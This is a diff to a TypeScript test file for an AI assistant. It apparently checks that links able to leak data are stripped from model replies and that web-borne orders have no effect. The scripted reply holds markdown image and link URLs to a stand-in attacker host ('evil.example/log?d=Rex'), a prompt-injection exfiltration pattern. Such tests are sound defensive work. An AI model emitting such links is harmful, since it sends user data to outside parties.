@@ -1,4 +1,4 @@
-import type { User } from '@jarvis/contract';
+import { fold, noReply, type User } from '@jarvis/contract';
 import {
   fakeSearch,
   freshDatabase,
@@ -94,20 +94,20 @@ it('links that could carry data lose their address, in the stream as in what is 
   model.script(searching, {
     say: 'Bees [1] like [flowers](https://bees.example/facts). ![](https://evil.example/log?d=Rex) See [more](https://evil.example/log?d=Rex) or https://evil.example/Rex now.',
   });
-  let streamed = '';
+  let streamed = noReply;
   const turn = await takeTurn(
     deps,
     ada,
     { message: 'What do bees like?' },
     {
-      onText: (piece) => {
-        streamed += piece;
+      emit: (event) => {
+        streamed = fold(streamed, event);
       },
     },
   );
   const clean = 'Bees [1] like [flowers](https://bees.example/facts).  See more or evil.example now.';
   expect(turn.assistantMessage.content).toBe(clean);
-  expect(streamed).toBe(clean);
+  expect(streamed.text).toBe(clean);
 });
 
 it('orders that a reply carried over from the web lead to nothing in a later turn either', async () => {
